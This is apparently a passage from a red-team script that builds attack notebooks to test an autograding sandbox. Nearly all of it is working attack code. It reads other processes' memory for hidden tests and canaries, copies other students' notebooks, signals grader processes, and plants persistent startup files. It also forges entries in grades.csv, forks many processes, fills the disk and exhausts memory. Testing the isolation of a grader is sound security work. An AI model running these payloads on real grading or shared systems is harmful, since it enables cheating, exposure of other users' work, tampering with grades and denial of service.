        if isinstance(s, str) and s and s not in _RT_SEEN:
            _RT_SEEN.append(s)
    finally:
        _rt_busy[0] = False
sys.addaudithook(_rt_hook)
def _rt_dump():
    _rt_b64("compiled-%d" % len(_RT_SEEN), "\n#-----\n".join(_RT_SEEN[-400:]))
'''
    return build_notebook(nb, prefix=dict({g: "_rt_dump()\n" for g in ANSWER_ORDER}, **{FIRST: code}),
                          extra_last_code="_rt_dump()\n")


@attack("s06_proc_mem_scan", "secrets", "read other processes' memory via /proc/<pid>/mem (grader, workers, other kernels) looking for hidden tests and canary tokens")
def _(nb):
    code = PRELUDE + r'''
import re
NEEDLES = [b"BEGIN HIDDEN", b"RTHIDDEN", b"RTGRADEBOOK", b"RTCANARY", b"RTCONTROL"]
def _rt_scan(pid, deadline):
    found = 0
    try:
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open("/proc/%d/mem" % pid, "rb", 0)
    except Exception as e:
        return -1
    for line in maps:
        if time.time() > deadline:
            break
        addr, perms = line.split()[:2]
        if "r" not in perms:
            continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        if hi - lo > 256 << 20:
            continue
        try:
            mem.seek(lo); data = mem.read(hi - lo)
        except Exception:
            continue
        for nd in NEEDLES:
            for m in re.finditer(re.escape(nd), data):
                _rt_b64("mem-%d-%x" % (pid, lo + m.start()), data[max(0, m.start() - 200): m.start() + 600], cap=2000)
                found += 1
                if found > 40:
                    return found
    return found
_deadline = time.time() + 6
for p, c in _rt_procs():
    if p == os.getpid() or ("python" not in c and "jupyter" not in c):
        continue
    r = _rt_scan(p, _deadline)
    _rt_res("mem-%d" % p, r)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("s07_other_students", "secrets", "other kernels' working folders (/proc/<pid>/cwd, /proc/<pid>/root) and the submissions tree: print other students' notebooks")
def _(nb):
    code = PRELUDE + r'''
n = 0
for p, c in _rt_procs():
    if p == os.getpid():
        continue
    for base in ("/proc/%d/cwd" % p,):
        try:
            for f in glob.glob(base + "/**/*.ipynb", recursive=True)[:10]:
                data = open(f, "rb").read(300000)
                _rt_b64("other-%d-%s" % (p, f), data); n += 1
        except Exception:
            pass
for p, subs, out, cwd, home in _rt_grader_paths():
    for f in glob.glob("/proc/%d/root%s/**/*.ipynb" % (p, subs), recursive=True)[:40]:
        try:
            _rt_b64("sub-" + f, open(f, "rb").read(300000)); n += 1
        except Exception:
            pass
    for f in glob.glob("/proc/%d/root%s/feedback/*.html" % (p, out))[:5]:
        try:
            _rt_b64("fb-" + f, open(f, "rb").read(100000)); n += 1
        except Exception:
            pass
_rt_res("other_notebooks_read", n)
'''
    return build_notebook(nb, prefix={FIRST: code})


# ------------------------------------------------------------------ class 3: processes
@attack("p01_signal_processes", "processes", "list every process, os.kill(pid, 0) them all, SIGUSR1 the canary process (also via /proc/<pid>/root pidfd-less paths)")
def _(nb):
    code = PRELUDE + r'''
alive = []
for p, c in _rt_procs():
    try:
        os.kill(p, 0); alive.append(p)
    except Exception:
        pass
_rt_res("signalable", len(alive))
for p in _rt_canary_pids():
    try:
        os.kill(p, signal.SIGUSR1); _rt_res("sigusr1_canary_%d" % p, "sent")
    except Exception as e:
        _rt_res("sigusr1_canary_%d" % p, type(e).__name__)
for p in _rt_grader_pids():
    try:
        os.kill(p, 0); _rt_res("grader_signalable_%d" % p, "yes")
    except Exception as e:
        _rt_res("grader_signalable_%d" % p, type(e).__name__)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("p02_oom_score_adj", "processes", "write 1000 into the canary's /proc/<pid>/oom_score_adj (and the grader's), -1000 into our own")
def _(nb):
    code = PRELUDE + r'''
for p in _rt_canary_pids() + _rt_grader_pids():
    for val, path in (("1000", "/proc/%d/oom_score_adj" % p),):
        if p in _rt_grader_pids():
            val = open(path).read().strip()  # rewrite the same value: proves write access, no harm
        try:
            with open(path, "w") as f:
                f.write(val)
            _rt_res("oom_write_%d" % p, "ok")
        except Exception as e:
            _rt_res("oom_write_%d" % p, type(e).__name__)
try:
    open("/proc/self/oom_score_adj", "w").write("-1000"); _rt_res("oom_self", "ok")
except Exception as e:
    _rt_res("oom_self", type(e).__name__)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("p03_daemonize", "processes", "double fork + setsid + ignore SIGTERM/SIGHUP, try to leave the cgroup (write to every cgroup.procs), exec a marked long sleep")
def _(nb):
    code = PRELUDE + r'''
def _rt_daemon(tag):
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        me = str(os.getpid())
        for cp in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"] + \
                  ["/proc/%d/root/sys/fs/cgroup/pids/cgroup.procs" % g for g in _rt_grader_pids()] + \
                  ["/proc/%d/root/sys/fs/cgroup/unified/cgroup.procs" % g for g in _rt_grader_pids()]:
            try:
                open(cp, "w").write(me)
            except Exception:
                pass
        env = dict(os.environ, RTBLIND_MARK="p03_daemonize")
        os.execve("/bin/sh", ["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 900; :", "RTBLIND-MARK-p03_daemonize-" + tag], env)
    finally:
        os._exit(0)
_rt_daemon("a")
import subprocess
subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 900; :", "RTBLIND-MARK-p03_daemonize-popen"],
                 start_new_session=True, env=dict(os.environ, RTBLIND_MARK="p03_daemonize"),
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.5)
_rt_res("daemons", len([p for p, c in _rt_procs() if "RTBLIND-MARK" in c]))
'''
    return build_notebook(nb, prefix={FIRST: code, "brown_dog": "_rt_daemon('late')\n"})


# ------------------------------------------------------------------ class 4: persistence
WRITE_HELPERS = r'''
def _rt_write(path, text, append=False):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except Exception:
        pass
    try:
        with open(path, "a" if append else "w") as f:
            f.write(text)
        _rt_res("wrote " + path, "ok")
        return True
    except Exception as e:
        _rt_res("wrote " + path, type(e).__name__)
        return False
'''


@attack("w01_startup_files", "persistence", "write ~/.ipython startup, ~/.jupyter/jupyter_config.py, nbgrader_config.py in the course dir, cwd and /etc/jupyter: directly and via /proc/<pid>/root",
        writes=["HOME/.ipython/profile_default/startup/00-rtblind.py", "/root/.ipython/profile_default/startup/00-rtblind.py",
                "HOME/.jupyter/jupyter_config.py", "/root/.jupyter/jupyter_config.py", "COURSE/nbgrader_config.py",
                "/etc/jupyter/nbgrader_config.py"])
def _(nb):
    code = PRELUDE + WRITE_HELPERS + r'''
MARK = "# RTBLIND-WROTE w01_startup_files\n"
homes = {os.path.expanduser("~"), "/root"}
courses = set()
for p, subs, out, cwd, home in _rt_grader_paths():
    if home: homes.add(home)
    if subs: courses.add(os.path.dirname(subs.rstrip("/")))
roots = [""] + ["/proc/%d/root" % p for p in _rt_grader_pids()]
for r in roots:
    for h in homes:
        _rt_write(r + h + "/.ipython/profile_default/startup/00-rtblind.py", MARK)
        _rt_write(r + h + "/.jupyter/jupyter_config.py", MARK, append=True)
    for c in courses:
        _rt_write(r + c + "/nbgrader_config.py", MARK, append=True)
    _rt_write(r + "/etc/jupyter/nbgrader_config.py", MARK, append=True)
_rt_write(os.path.join(os.getcwd(), "nbgrader_config.py"), MARK)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("w02_tmp_shm_and_outputs", "persistence", "drop files in /tmp, /dev/shm, /var/tmp (directly and via /proc/<pid>/root) for later runs; tamper with grades.csv and the controls' submissions",
        writes=["/tmp/rtblind-persist-*", "/dev/shm/rtblind-persist-*", "/var/tmp/rtblind-persist-*", "OUT/*", "SUBMISSIONS/*"])
def _(nb):
    code = PRELUDE + WRITE_HELPERS + r'''
MARK = "RTBLIND-WROTE w02_tmp_shm_and_outputs\n"
roots = [""] + ["/proc/%d/root" % p for p in _rt_grader_pids()]
for r in roots:
    for d in ("/tmp", "/dev/shm", "/var/tmp"):
        _rt_write(r + d + "/rtblind-persist-w02", MARK)
for p, subs, out, cwd, home in _rt_grader_paths():
    r = "/proc/%d/root" % p
    if out:
        _rt_write(r + out + "/grades.csv", "control_wrong,05_self_attention,17,17,0,graded,RTBLIND-TAMPER\n", append=True)
        _rt_write(r + out + "/feedback/control_wrong.html", "RTBLIND-TAMPER")
    if subs:
        for f in glob.glob(r + subs + "/*/05_self_attention/05_self_attention.ipynb"):
            if "w02" not in f and "control" in f:
                _rt_write(f, " ", append=True)
'''
    return build_notebook(nb, prefix={FIRST: code})


# ------------------------------------------------------------------ class 5: resources
@attack("r01_huge_text", "resources", "print 100 MB of text in one answer cell (and 20 MB more in each of two others)")
def _(nb):
    return build_notebook(nb, prefix={FIRST: "import sys\nfor _ in range(100):\n    sys.stdout.write('A' * (1 << 20) + '\\n')\n",
                                      "table_z": "print('B' * (20 << 20))\n", "brown_dog": "print('C' * (20 << 20))\n"})


@attack("r02_huge_image", "resources", "display a 100 MB image/png payload plus 30 MB of image/svg+xml")
def _(nb):
    code = r'''
import os, base64
from IPython.display import display
blob = base64.b64encode(os.urandom(75 << 20)).decode()
display({"image/png": blob, "text/plain": "img"}, raw=True)
del blob
display({"image/svg+xml": "<svg>" + "<g/>" * (30 << 20 >> 4) + "</svg>", "text/plain": "svg"}, raw=True)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("r03_many_cells", "resources", "20,000 extra code cells (each printing a line) plus 5,000 markdown cells")
def _(nb):
    out = build_notebook(nb)
    extra = [code_cell("print(%d)\n" % i) for i in range(20000)]
    extra += [{"cell_type": "markdown", "metadata": {}, "source": "# filler %d" % i} for i in range(5000)]
    out["cells"] = out["cells"][:7] + extra + out["cells"][7:]
    return out


@attack("r04_sleep_every_cell", "resources", "sleep 7.9 s (just under --timeout 8) in every answer cell and, through a pre_run_cell hook, before every cell")
def _(nb):
    code = r'''
import time
from IPython import get_ipython
get_ipython().events.register("pre_run_cell", lambda *a: time.sleep(7.5))
time.sleep(7.4)
'''
    return build_notebook(nb, prefix=dict({g: "import time\ntime.sleep(7.9)\n" for g in ANSWER_ORDER}, **{FIRST: code}))


@attack("r05_fill_disk", "resources", "write as much as possible in ~6 s (capped at 3 GiB) in the kernel's folder, /tmp, /dev/shm; report how much got written")
def _(nb):
    code = PRELUDE + r'''
_rt_t0 = time.time()
def _rt_fill(d, cap, budget=2.0):
    total = 0
    chunk = b"\0" * (8 << 20)
    t0 = time.time()
    for i in range(64):
        if time.time() - t0 > budget or time.time() - _rt_t0 > 6.5:
            break
        path = os.path.join(d, "rtblind-fill-%d" % i)
        try:
            with open(path, "wb") as f:
                while total < cap:
                    f.write(chunk); total += len(chunk)
                    if f.tell() >= (250 << 20):
                        break
        except (OSError, MemoryError) as e:
            _rt_res("fill_err_" + d, type(e).__name__)
            if getattr(e, "errno", None) != 27:   # EFBIG: next file; anything else: stop
                break
        _rt_res("fill_progress_" + d.replace("/", "_"), total)
        if total >= cap:
            break
    return total
import signal as _s
_s.signal(_s.SIGXFSZ, _s.SIG_IGN)
t0 = time.time()
_rt_res("fill_kernel_dir_bytes", _rt_fill(os.getcwd(), 3 << 30, 4.0))
_rt_res("fill_tmp_bytes", _rt_fill("/tmp", 512 << 20, 1.0))
_rt_res("fill_shm_bytes", _rt_fill("/dev/shm", 512 << 20, 1.0))
_rt_res("fill_seconds", round(time.time() - t0, 1))
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("r06_fork_bomb", "resources", "fork up to 400 marked sleeping children (capped), report how many got created")
def _(nb):
    code = PRELUDE + r'''
made = 0
for i in range(400):
    try:
        pid = os.fork()
    except OSError as e:
        _rt_res("fork_error", type(e).__name__)
        break
    if pid == 0:
        try:
            os.execve("/bin/sh", ["/bin/sh", "-c", "sleep 900; :", "RTBLIND-MARK-r06_fork_bomb"], {"RTBLIND_MARK": "r06"})
        finally:
            os._exit(0)
    made += 1
_rt_res("forked", made)
'''
    return build_notebook(nb, prefix={FIRST: code})


@attack("r07_memory_hog", "resources", "allocate and touch 6 GiB (over --memory-mb 4096) in one answer cell; report what succeeded")
def _(nb):
    code = PRELUDE + r'''
got = 0
bufs = []
try:
    for i in range(24):
        b = bytearray(256 << 20)
        bufs.append(b); got += 256
except MemoryError:
    pass
_rt_res("memory_mb", got)
del bufs
'''
    return build_notebook(nb, prefix={FIRST: code})


def build(student_nb_path=STUDENT_NB, out_dir=ATTACKS_DIR):
    nb = base_notebook(student_nb_path)
    os.makedirs(out_dir, exist_ok=True)
    manifest = []
    for a in ATTACKS:
        built = a["fn"](nb)
        with open(os.path.join(out_dir, a["name"] + ".ipynb"), "w") as f:
            json.dump(built, f, indent=1, ensure_ascii=False)
            f.write("\n")
        manifest.append({k: a[k] for k in ("name", "class", "desc", "writes")})
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
    return manifest


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--student-notebook", default=STUDENT_NB)
    args = ap.parse_args()
    m = build(args.student_notebook)
    print("built %d attacks in %s" % (len(m), ATTACKS_DIR))
